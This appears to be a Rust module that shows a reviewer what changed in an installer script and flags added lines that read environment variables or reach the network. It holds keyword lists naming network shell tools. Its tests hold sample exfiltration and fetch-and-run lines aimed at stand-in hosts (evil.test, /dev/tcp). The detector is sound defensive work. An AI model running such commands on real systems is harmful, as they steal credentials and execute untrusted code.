//! `--diff`: what changed in a script since the last accepted run, for a person to review
//! before `--confirm` asks.
//!
//! A line diff (Myers' O((N+M)·D) algorithm, after stripping the common prefix and suffix)
//! rendered as unified-diff hunks with three lines of context. Added lines that read the
//! environment (`env`, `printenv`, `$UPPER_CASE` variables, `/proc/self/environ`, `getenv`)
//! or reach the network (`curl`, `wget`, `nc`, `/dev/tcp`, `http://`, `https://`, ...) are
//! marked `+!` and tagged `[reads env]` / `[network]`: the two things a tampered installer
//! needs to steal credentials. The heuristics are a reviewing aid, not a guarantee.
//!
//! Every line is untrusted: it is sanitised ([`crate::term::sanitize_block`]) and cut at
//! [`MAX_LINE_CHARS`]. Inputs are capped ([`MAX_DIFF_BYTES`], [`MAX_EDIT_DISTANCE`]); past
//! the caps, or for binary payloads, only sizes and digests are shown. This module returns
//! text; `app` prints it to stderr.

/// Largest old or new payload diffed line by line.
pub const MAX_DIFF_BYTES: usize = 1 << 20;
/// Most inserted + deleted lines the diff searches for before giving up.
pub const MAX_EDIT_DISTANCE: usize = 2000;
/// Longest line shown, in characters.
pub const MAX_LINE_CHARS: usize = 300;
const CONTEXT: usize = 3;

/// What an added line does that deserves a reviewer's attention.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flag {
    /// Reads the environment (credentials often live there).
    Env,
    /// Reaches the network.
    Network,
}

/// One step of an edit script: indices into the old (`a`) and new (`b`) lines.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Op {
    Equal(usize, usize),
    Delete(usize),
    Insert(usize),
}

/// Counts for the summary line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Summary {
    /// Lines added.
    pub added: usize,
    /// Lines removed.
    pub removed: usize,
    /// Added lines with at least one [`Flag`].
    pub flagged: usize,
}

/// The rendered diff and its counts.
#[derive(Clone, Debug)]
pub struct Rendered {
    /// Hunks (or a one-line explanation), sanitised, newline-terminated lines.
    pub text: String,
    /// Counts; `None` when no line diff could be made (binary, too large).
    pub summary: Option<Summary>,
}

/// Diff `old` against `new`. `color` adds ANSI colours (the caller decides: terminal and
/// `NO_COLOR`).
pub fn render(old: &[u8], new: &[u8], color: bool) -> Rendered {
    if is_binary(old) || is_binary(new) {
        return Rendered {
            text: format!(
                "binary payload: {} bytes before, {} bytes now; no line diff\n",
                old.len(),
                new.len()
            ),
            summary: None,
        };
    }
    if old.len() > MAX_DIFF_BYTES || new.len() > MAX_DIFF_BYTES {
        return Rendered {
            text: format!(
                "too large to diff (the limit is {} bytes); use --show to read it\n",
                MAX_DIFF_BYTES
            ),
            summary: None,
        };
    }
    let a = split_lines(old);
    let b = split_lines(new);
    let Some(ops) = diff_lines(&a, &b, MAX_EDIT_DISTANCE) else {
        return Rendered {
            text: format!(
                "too many changes to show ({} lines before, {} lines now)\n",
                a.len(),
                b.len()
            ),
            summary: None,
        };
    };
    let (red, green, yellow, reset) = if color {
        ("\x1b[31m", "\x1b[32m", "\x1b[1;33m", "\x1b[0m")
    } else {
        ("", "", "", "")
    };
    let mut out = String::new();
    let mut summary = Summary::default();
    for hunk in hunks(&ops) {
        let (a0, b0) = position(&ops, hunk.start);
        let a_len = ops[hunk.clone()]
            .iter()
            .filter(|o| !matches!(o, Op::Insert(_)))
            .count();
        let b_len = ops[hunk.clone()]
            .iter()
            .filter(|o| !matches!(o, Op::Delete(_)))
            .count();
        out.push_str(&format!(
            "@@ -{},{a_len} +{},{b_len} @@\n",
            a0 + usize::from(a_len > 0),
            b0 + usize::from(b_len > 0)
        ));
        for op in &ops[hunk] {
            match *op {
                Op::Equal(i, _) => out.push_str(&format!("  {}\n", show(&a[i]))),
                Op::Delete(i) => {
                    summary.removed += 1;
                    out.push_str(&format!("{red}- {}{reset}\n", show(&a[i])));
                }
                Op::Insert(j) => {
                    summary.added += 1;
                    let flags = flags(&b[j]);
                    if flags.is_empty() {
                        out.push_str(&format!("{green}+ {}{reset}\n", show(&b[j])));
                    } else {
                        summary.flagged += 1;
                        let tags: Vec<&str> = flags
                            .iter()
                            .map(|f| match f {
                                Flag::Env => "[reads env]",
                                Flag::Network => "[network]",
                            })
                            .collect();
                        out.push_str(&format!(
                            "{yellow}+! {}    <-- {}{reset}\n",
                            show(&b[j]),
                            tags.join(" ")
                        ));
                    }
                }
            }
        }
    }
    Rendered {
        text: out,
        summary: Some(summary),
    }
}

fn is_binary(b: &[u8]) -> bool {
    b.starts_with(b"\x7fELF") || b[..b.len().min(8192)].contains(&0)
}

fn split_lines(b: &[u8]) -> Vec<String> {
    if b.is_empty() {
        return Vec::new();
    }
    let body = b.strip_suffix(b"\n").unwrap_or(b);
    body.split(|&c| c == b'\n')
        .map(|l| String::from_utf8_lossy(l.strip_suffix(b"\r").unwrap_or(l)).into_owned())
        .collect()
}

fn show(line: &str) -> String {
    let clean = crate::term::sanitize_block(line);
    if clean.chars().count() > MAX_LINE_CHARS {
        let mut cut: String = clean.chars().take(MAX_LINE_CHARS).collect();
        cut.push('…');
        cut
    } else {
        clean
    }
}

/// The hunks: ranges of `ops` around changes, with [`CONTEXT`] equal lines either side,
/// merged when they touch.
fn hunks(ops: &[Op]) -> Vec<std::ops::Range<usize>> {
    let mut out: Vec<std::ops::Range<usize>> = Vec::new();
    for (i, op) in ops.iter().enumerate() {
        if matches!(op, Op::Equal(..)) {
            continue;
        }
        let start = i.saturating_sub(CONTEXT);
        let end = (i + 1 + CONTEXT).min(ops.len());
        match out.last_mut() {
            Some(last) if start <= last.end => last.end = last.end.max(end),
            _ => out.push(start..end),
        }
    }
    out
}

/// The 0-based old and new line numbers before `ops[at]`.
fn position(ops: &[Op], at: usize) -> (usize, usize) {
    let a = ops[..at]
        .iter()
        .filter(|o| !matches!(o, Op::Insert(_)))
        .count();
    let b = ops[..at]
        .iter()
        .filter(|o| !matches!(o, Op::Delete(_)))
        .count();
    (a, b)
}

/// The edit script turning `a` into `b`, or `None` when more than `max_d` lines differ.
fn diff_lines(a: &[String], b: &[String], max_d: usize) -> Option<Vec<Op>> {
    let prefix = a.iter().zip(b).take_while(|(x, y)| x == y).count();
    let suffix = a[prefix..]
        .iter()
        .rev()
        .zip(b[prefix..].iter().rev())
        .take_while(|(x, y)| x == y)
        .count();
    let (am, bm) = (&a[prefix..a.len() - suffix], &b[prefix..b.len() - suffix]);
    let middle = myers(am, bm, max_d)?;
    let mut ops: Vec<Op> = (0..prefix).map(|i| Op::Equal(i, i)).collect();
    ops.extend(middle.into_iter().map(|op| match op {
        Op::Equal(i, j) => Op::Equal(i + prefix, j + prefix),
        Op::Delete(i) => Op::Delete(i + prefix),
        Op::Insert(j) => Op::Insert(j + prefix),
    }));
    let (an, bn) = (a.len() - suffix, b.len() - suffix);
    ops.extend((0..suffix).map(|k| Op::Equal(an + k, bn + k)));
    Some(ops)
}

/// Myers' greedy shortest edit script, keeping the frontier of each round for backtracking
/// (O(D²) memory, bounded by `max_d`).
fn myers(a: &[String], b: &[String], max_d: usize) -> Option<Vec<Op>> {
    let (n, m) = (a.len() as isize, b.len() as isize);
    let limit = ((n + m) as usize).min(max_d) as isize;
    let off = limit + 1;
    let mut v = vec![0isize; (2 * limit + 3) as usize];
    // trace[d] holds v[k] for k in -(d+1)..=(d+1), as it was before round d.
    let mut trace: Vec<Vec<isize>> = Vec::new();
    for d in 0..=limit {
        trace.push(v[(off - d - 1) as usize..=(off + d + 1) as usize].to_vec());
        let mut k = -d;
        while k <= d {
            let i = (k + off) as usize;
            let mut x = if k == -d || (k != d && v[i - 1] < v[i + 1]) {
                v[i + 1]
            } else {
                v[i - 1] + 1
            };
            let mut y = x - k;
            while x < n && y < m && a[x as usize] == b[y as usize] {
                x += 1;
                y += 1;
            }
            v[i] = x;
            if x >= n && y >= m {
                return Some(backtrack(&trace, n, m));
            }
            k += 2;
        }
    }
    None
}

fn backtrack(trace: &[Vec<isize>], n: isize, m: isize) -> Vec<Op> {
    let mut ops = Vec::new();
    let (mut x, mut y) = (n, m);
    for (d, snap) in trace.iter().enumerate().rev() {
        let d = d as isize;
        let get = |k: isize| snap[(k + d + 1) as usize];
        let k = x - y;
        let prev_k = if k == -d || (k != d && get(k - 1) < get(k + 1)) {
            k + 1
        } else {
            k - 1
        };
        let prev_x = get(prev_k);
        let prev_y = prev_x - prev_k;
        while x > prev_x && y > prev_y {
            ops.push(Op::Equal((x - 1) as usize, (y - 1) as usize));
            x -= 1;
            y -= 1;
        }
        if d > 0 {
            if x == prev_x {
                ops.push(Op::Insert((y - 1) as usize));
            } else {
                ops.push(Op::Delete((x - 1) as usize));
            }
        }
        x = prev_x;
        y = prev_y;
    }
    ops.reverse();
    ops
}

/// What an (added) line does that a reviewer should look at twice.
pub fn flags(line: &str) -> Vec<Flag> {
    let t = line.trim_start();
    if t.starts_with("#!") {
        return Vec::new();
    }
    let lower = t.to_ascii_lowercase();
    let mut out = Vec::new();
    const ENV_WORDS: &[&str] = &["env", "printenv", "getenv", "environ"];
    const ENV_TEXT: &[&str] = &[
        "/proc/self/environ",
        "process.env",
        "os.environ",
        "export -p",
    ];
    if ENV_WORDS.iter().any(|w| has_word(&lower, w))
        || ENV_TEXT.iter().any(|s| lower.contains(s))
        || has_env_var(t)
    {
        out.push(Flag::Env);
    }
    const NET_WORDS: &[&str] = &[
        "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "rsync", "ftp",
        "sftp",
    ];
    const NET_TEXT: &[&str] = &[
        "/dev/tcp/",
        "/dev/udp/",
        "http://",
        "https://",
        "ftp://",
        "urllib",
        "requests.",
        "invoke-webrequest",
        "fetch(",
    ];
    if NET_WORDS.iter().any(|w| has_word(&lower, w)) || NET_TEXT.iter().any(|s| lower.contains(s)) {
        out.push(Flag::Network);
    }
    out
}

/// `word` occurs in `text` not as part of a longer identifier.
fn has_word(text: &str, word: &str) -> bool {
    let is_ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(pos) = text[from..].find(word) {
        let start = from + pos;
        let end = start + word.len();
        let before_ok = start == 0 || !is_ident(bytes[start - 1]);
        let after_ok = end == bytes.len() || !is_ident(bytes[end]);
        if before_ok && after_ok {
            return true;
        }
        from = start + 1;
    }
    false
}

/// `$NAME` or `${NAME` with an upper-case name: by convention an environment variable
/// (`$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`), unlike a script's own lower-case locals.
fn has_env_var(text: &str) -> bool {
    let b = text.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        if c != b'$' {
            continue;
        }
        let mut j = i + 1;
        if b.get(j) == Some(&b'{') {
            j += 1;
        }
        let name_len = b[j.min(b.len())..]
            .iter()
            .take_while(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || **c == b'_')
            .count();
        if name_len >= 2 && b[j].is_ascii_uppercase() {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(s: &str) -> Vec<String> {
        split_lines(s.as_bytes())
    }

    fn apply(a: &[String], b: &[String], ops: &[Op]) -> Vec<String> {
        let mut out = Vec::new();
        for op in ops {
            match *op {
                Op::Equal(i, j) => {
                    assert_eq!(a[i], b[j]);
                    out.push(a[i].clone());
                }
                Op::Insert(j) => out.push(b[j].clone()),
                Op::Delete(_) => {}
            }
        }
        out
    }

    #[test]
    fn myers_produces_a_valid_minimal_script() {
        let cases = [
            ("", ""),
            ("a\nb\nc\n", "a\nb\nc\n"),
            ("", "x\ny\n"),
            ("x\ny\n", ""),
            ("a\nb\nc\na\nb\nb\na\n", "c\nb\na\nb\na\nc\n"),
            ("1\n2\n3\n4\n5\n", "1\n2\nX\n4\n5\n6\n"),
        ];
        for (x, y) in cases {
            let (a, b) = (lines(x), lines(y));
            let ops = diff_lines(&a, &b, 100).unwrap();
            assert_eq!(apply(&a, &b, &ops), b, "{x:?} -> {y:?}");
            let deletes = ops.iter().filter(|o| matches!(o, Op::Delete(_))).count();
            assert_eq!(
                a.len() - deletes,
                apply(&a, &b, &ops).len()
                    - ops.iter().filter(|o| matches!(o, Op::Insert(_))).count()
            );
        }
        // The classic example: edit distance 5.
        let (a, b) = (lines("a\nb\nc\na\nb\nb\na\n"), lines("c\nb\na\nb\na\nc\n"));
        let ops = diff_lines(&a, &b, 100).unwrap();
        assert_eq!(
            ops.iter().filter(|o| !matches!(o, Op::Equal(..))).count(),
            5
        );
        assert!(diff_lines(&lines("a\nb\nc\n"), &lines("x\ny\nz\n"), 2).is_none());
    }

    #[test]
    fn flags_env_and_network() {
        assert_eq!(flags("curl -d @- https://x.test"), vec![Flag::Network]);
        assert_eq!(flags("echo $AWS_SECRET_ACCESS_KEY"), vec![Flag::Env]);
        assert_eq!(
            flags("env | nc evil.test 9"),
            vec![Flag::Env, Flag::Network]
        );
        assert_eq!(
            flags("cat /proc/self/environ > /dev/tcp/1.2.3.4/80"),
            vec![Flag::Env, Flag::Network]
        );
        assert_eq!(flags("printenv"), vec![Flag::Env]);
        assert_eq!(flags("echo \"${GITHUB_TOKEN}\""), vec![Flag::Env]);
        assert!(flags("echo $prefix; sync; once").is_empty());
        assert!(flags("#!/usr/bin/env sh").is_empty());
        assert!(flags("install -m 0755 bin/tool \"$dest\"").is_empty());
    }

    #[test]
    fn renders_hunks_with_markers_sanitised() {
        let old = b"#!/bin/sh\necho one\necho two\necho three\n";
        let new =
            b"#!/bin/sh\necho one\ncurl -s https://evil.test/x | sh\necho two\necho \x1b[2Jthree\n";
        let r = render(old, new, false);
        let s = r.summary.unwrap();
        assert_eq!((s.added, s.removed, s.flagged), (2, 1, 1));
        assert!(
            r.text
                .contains("+! curl -s https://evil.test/x | sh    <-- [network]"),
            "{}",
            r.text
        );
        assert!(r.text.contains("- echo three"));
        assert!(r.text.contains("+ echo \\u{1b}[2Jthree"));
        assert!(!r.text.contains('\x1b'));
        assert!(r.text.starts_with("@@ -1,4 +1,5 @@\n"), "{}", r.text);
        assert!(render(b"\x7fELF", b"x", false).summary.is_none());
    }
}
